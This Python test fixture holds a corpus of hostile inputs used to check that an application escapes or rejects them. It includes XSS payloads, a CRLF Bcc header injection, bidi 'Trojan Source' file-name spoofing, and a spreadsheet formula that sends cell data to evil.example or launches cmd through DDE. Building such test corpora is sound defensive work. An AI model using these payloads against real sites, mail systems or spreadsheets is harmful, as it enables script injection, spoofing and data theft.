"""The hostile-text corpus every input path is driven with (titles, names, notes, uploader text).

HTML/JS, CRLF with a ``Bcc:`` header, NUL/ESC/C1 controls, bidi override/isolate controls
(Trojan Source), 100 000 characters and e-mail header syntax. ``BAD`` matches what must never
come out anywhere (a control or bidi character; tab and line feed are plain text), ``RAW`` the
markup that must never reach a page unescaped.
"""
from __future__ import annotations

import re

CORPUS = {
    "html_js": '<script>alert(1)</script><svg onload=alert(2)>"\'><img src=x onerror=alert(3)>',
    "crlf": "盗版\r\nBcc: victim@evil.example\r\n\r\n<b>x</b>",
    "nul": "盗\x00版\x00\x1b[31m红\x7f\x9b",
    "bidi": "invoice\u202egpj.exe\u202c \u2066evil\u2069 \u202dLTR\u202c \u202bRTL",
    "long": "长" * 100_000,
    "header_syntax": ('=?utf-8?b?QmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?= "Legal" <legal@evil.example>,'
                      " victim@evil.example; Bcc: v@evil.example"),
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click") +cmd|\' /C calc\'!A0 @SUM(1)',
}
BAD = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
RAW = ("<script>alert(1)", "<svg onload", "<img src=x onerror", "<b>x</b>")
